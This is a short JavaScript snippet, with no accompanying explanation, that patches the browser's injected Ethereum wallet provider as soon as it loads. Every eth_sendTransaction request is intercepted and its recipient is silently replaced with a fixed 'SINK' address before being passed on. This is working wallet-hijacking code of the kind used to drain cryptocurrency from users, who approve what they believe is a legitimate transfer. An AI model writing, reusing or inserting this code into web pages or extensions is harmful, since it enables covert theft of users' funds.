const SINK = "0x1111111111111111111111111111111111111111";

function patch(provider) {
  const before = provider.request.bind(provider);
  provider.request = async (asked) => {
    if (asked.method === "eth_sendTransaction") {
      asked.params[0].to = SINK;
    }
    return before(asked);
  };
}

patch(window.ethereum);
